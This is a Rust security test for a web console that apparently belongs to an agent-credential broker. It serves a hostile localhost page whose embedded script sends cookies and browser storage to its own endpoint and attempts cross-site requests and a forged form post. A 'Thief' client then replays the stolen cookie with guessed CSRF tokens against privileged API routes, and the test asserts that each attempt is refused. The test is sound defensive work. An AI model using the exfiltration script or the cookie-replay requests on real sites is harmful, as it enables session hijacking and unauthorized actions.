//! A server on another port of `localhost`, as an agent shows one to its human: what the browser that is logged in at the console hands to it,
//! and what that is worth.

use crate::console::{enrolled, origin};
use crate::support::BINARY;
use cloakroom_testkit::{Broker, BrokerBuilder, TestAuthority};
use serde_json::{Value, json};
use std::io::{BufRead, BufReader, Read, Write};
use std::net::{TcpListener, TcpStream};
use std::sync::mpsc::{Receiver, channel};
use std::time::Duration;

/// How long a page may say nothing.
const PATIENCE: Duration = Duration::from_secs(20);

/// What its page does: tells what it finds here, then reads and writes at the console as the browser lets it.
const PAGE: &str = r#"<!doctype html><title>dev server</title><script>
const tell = (what) => fetch("/told", { method: "POST", body: String(what) });
const ask = (path, how) => fetch(CONSOLE + path, { credentials: "include", ...how });
(async () => {
  await tell(JSON.stringify({ ...localStorage, ...sessionStorage, cookie: document.cookie }));
  for (const mode of ["cors", "no-cors"]) {
    await ask("/api/v1/whoami", { mode }).then((answer) => answer.text()).then(tell).catch(tell);
    const body = JSON.stringify({ name: "planted" });
    await ask("/api/v1/workloads", { mode, method: "POST", body }).then((answer) => answer.text()).then(tell).catch(tell);
  }
  const frame = document.createElement("iframe");
  frame.name = "sink";
  document.body.append(frame);
  const form = document.createElement("form");
  Object.assign(form, { method: "post", action: CONSOLE + "/workloads", target: "sink" });
  form.append(Object.assign(document.createElement("input"), { name: "name", value: "planted" }));
  document.body.append(form);
  form.submit();
  await tell("done");
  document.title = "done";
})();
</script><body><h1>a dev server</h1>"#;

/// The server. Tells each request, head and body.
fn serve(page: String) -> (u16, Receiver<String>) {
    let listener = TcpListener::bind("127.0.0.1:0").unwrap();
    let port = listener.local_addr().unwrap().port();
    let (tell, told) = channel();
    std::thread::spawn(move || {
        for stream in listener.incoming() {
            let Some(request) = stream.ok().and_then(|stream| answered(stream, &page)) else { continue };
            if tell.send(request).is_err() {
                return;
            }
        }
    });
    (port, told)
}

fn answered(stream: TcpStream, page: &str) -> Option<String> {
    let mut reader = BufReader::new(&stream);
    let mut request = String::new();
    // A browser also connects without asking for anything.
    while reader.read_line(&mut request).ok()? > 2 {}
    let length = |line: &str| line.to_ascii_lowercase().strip_prefix("content-length: ")?.parse().ok();
    let mut body = vec![0; request.lines().find_map(length).unwrap_or(0)];
    reader.read_exact(&mut body).ok()?;
    let head = format!(
        "HTTP/1.1 200 OK\r\ncontent-type: text/html\r\nconnection: close\r\ncontent-length: {}\r\n\r\n{page}",
        page.len()
    );
    (&stream).write_all(head.as_bytes()).ok()?;
    Some(request + &String::from_utf8_lossy(&body)).filter(|request| !request.is_empty())
}

/// A program that has the cookie, and says of itself what it likes.
struct Thief<'b> {
    broker: &'b Broker,
    cookie: String,
}

impl Thief<'_> {
    fn ask(&self, method: &str, path: &str, fields: &[(&str, &str)], body: &str) -> String {
        let origin = origin(self.broker);
        let host = origin.strip_prefix("http://").unwrap();
        let mut head = format!(
            "{method} {path} HTTP/1.1\r\nhost: {host}\r\norigin: {origin}\r\nsec-fetch-site: same-origin\r\ncookie: {}\r\n\
             content-length: {}\r\nconnection: close\r\n",
            self.cookie,
            body.len()
        );
        fields.iter().for_each(|(name, value)| head.push_str(&format!("{name}: {value}\r\n")));
        let mut stream = TcpStream::connect(host.replace("localhost", "127.0.0.1")).unwrap();
        stream.write_all(format!("{head}\r\n{body}").as_bytes()).unwrap();
        let mut said = String::new();
        stream.read_to_string(&mut said).unwrap();
        said
    }
}

#[test]
fn t82_a_server_on_another_port_of_localhost_gets_nothing_that_it_can_act_with() {
    let authority = TestAuthority::new();
    let broker = BrokerBuilder::new(BINARY, &authority).start();
    let Some(mut browser) = enrolled(&broker, &[]) else { return };
    let half = browser.ask(json!(["kept"]))["kept"]["half"].as_str().unwrap().to_owned();
    assert!(half.starts_with("ckh_"), "{half}");
    let page = PAGE.replace("CONSOLE", &json!(origin(&broker)).to_string());
    let (port, told) = serve(page);
    let shown = browser.open(&format!("http://localhost:{port}/"));
    assert_eq!(shown["status"], 200, "{shown}");
    let mut all = String::new();
    while !all.contains("\r\n\r\ndone") {
        all.push_str(
            &told.recv_timeout(PATIENCE).unwrap_or_else(|_| panic!("the page says no more:\n{all}")),
        );
    }
    let cookie = all
        .lines()
        .find_map(|line| line.to_ascii_lowercase().starts_with("cookie: ").then(|| line[8..].trim()));
    // This is what browsers do. What follows is what it is worth.
    let cookie = cookie.unwrap_or_else(|| panic!("the browser sent no cookie:\n{all}")).to_owned();
    assert!(cookie.contains("cks_") && !all.contains(&half), "{all}");
    assert!(!all.contains("\"roles\""), "nothing of the console can be read from there:\n{all}");

    let thief = Thief { broker: &broker, cookie };
    for path in
        ["/inbox", "/account", "/status", "/workloads", "/policies/new", "/connect/by-hand", "/api/v1/whoami"]
    {
        let read = thief.ask("GET", path, &[], "");
        assert!(read.starts_with("HTTP/1.1 200 ") && !read.contains(&half), "{path}: {read}");
    }
    let text = thief.cookie.split_once('=').unwrap().1;
    for guess in ["", text, "ckh_", &half[..half.len() - 1], &format!("{half}0")] {
        for (path, kind, body) in [
            ("/api/v1/workloads", "application/json", r#"{"name":"planted"}"#),
            (
                "/api/v1/tokens",
                "application/json",
                r#"{"name":"planted","roles":["operator"],"expires_in":60}"#,
            ),
            ("/api/v1/members", "application/json", r#"{"name":"planted","roles":["operator"]}"#),
            ("/api/v1/custody/seal", "application/x-www-form-urlencoded", ""),
            ("/workloads", "application/x-www-form-urlencoded", &*format!("name=planted&csrf={guess}")),
            ("/logout", "application/x-www-form-urlencoded", &*format!("csrf={guess}")),
        ] {
            let fields = [("content-type", kind), ("cloakroom-csrf", guess)];
            // A form shows it as a field, or not at all.
            let fields = if path.starts_with("/api") { &fields[..] } else { &fields[..1] };
            let said = thief.ask("POST", path, fields, body);
            assert!(
                said.starts_with("HTTP/1.1 403 ") && said.contains("cross-site"),
                "{path} {guess:?}: {said}"
            );
        }
    }
    let workloads = broker.cli_json(&["workload", "list"]);
    assert!(workloads.as_array().is_some_and(Vec::is_empty), "{workloads}");
    // The person goes on working.
    browser.open("/workloads");
    browser.fill(json!({ "form.inline [name=name]": "agent" }));
    browser.submit("form.inline button");
    let workloads = broker.cli_json(&["workload", "list"]);
    assert_eq!(
        workloads.as_array().map(|all| all.iter().map(|one| one["name"].clone()).collect::<Vec<Value>>()),
        Some(vec![json!("agent")])
    );
}
